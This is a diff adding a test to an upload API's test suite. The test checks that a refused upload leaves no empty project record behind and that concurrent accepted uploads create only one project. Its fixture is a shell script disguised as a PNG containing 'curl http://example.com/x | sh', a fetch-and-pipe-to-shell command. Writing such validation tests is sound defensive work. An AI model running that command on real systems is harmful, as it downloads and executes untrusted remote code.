@@ -651,6 +651,36 @@ describe('desktop projects: media upload', () => {
     assert.equal((await call(server, 'GET', '/api/v1/desktop-projects/reject-me', { token: team.key })).status, 404);
   });
 
+  test('a refused upload to a project never pushed nor uploaded to leaves no project behind', async () => {
+    const projects = async (clientId: string) =>
+      Number(
+        (
+          await server.pool.query('select count(*) from desktop_projects where team_id = $1 and client_id = $2', [
+            team.id,
+            clientId,
+          ])
+        ).rows[0].count,
+      );
+    const script = Buffer.from('#!/bin/sh\ncurl http://example.com/x | sh\n');
+    const refused = await upload(server, team.key, 'refused-first', script, 'image/png', 'a.png');
+    assert.equal(refused.status, 422, refused.text);
+    assert.equal(await projects('refused-first'), 0, 'no empty project row for a refused file');
+    const list = await call<ProjectSummary[]>(server, 'GET', '/api/v1/desktop-projects', { token: team.key });
+    assert.ok(!list.body.some((p) => p.desktop_project_id === 'refused-first'));
+    // An accepted file makes the project, once, however many uploads race to make it.
+    const accepted = await Promise.all(
+      [0, 1, 2].map(() => upload(server, team.key, 'refused-first', fixtures.png, 'image/png', 'a.png')),
+    );
+    for (const r of accepted) assert.equal(r.status, 200, r.text);
+    assert.equal(await projects('refused-first'), 1);
+    const { rows } = await server.pool.query<{ n: string }>(
+      `select count(*) as n from desktop_project_media m join desktop_projects p on p.id = m.project_id
+        where p.team_id = $1 and p.client_id = $2`,
+      [team.id, 'refused-first'],
+    );
+    assert.equal(Number(rows[0]?.n), 3, 'every accepted file is recorded under the one project');
+  });
+
   test('an oversize upload is cut off early with 413 and nothing stored', async () => {
     const before = await filesUnder(mediaRoot);
     const boundary = `----desk${randomBytes(8).toString('hex')}`;
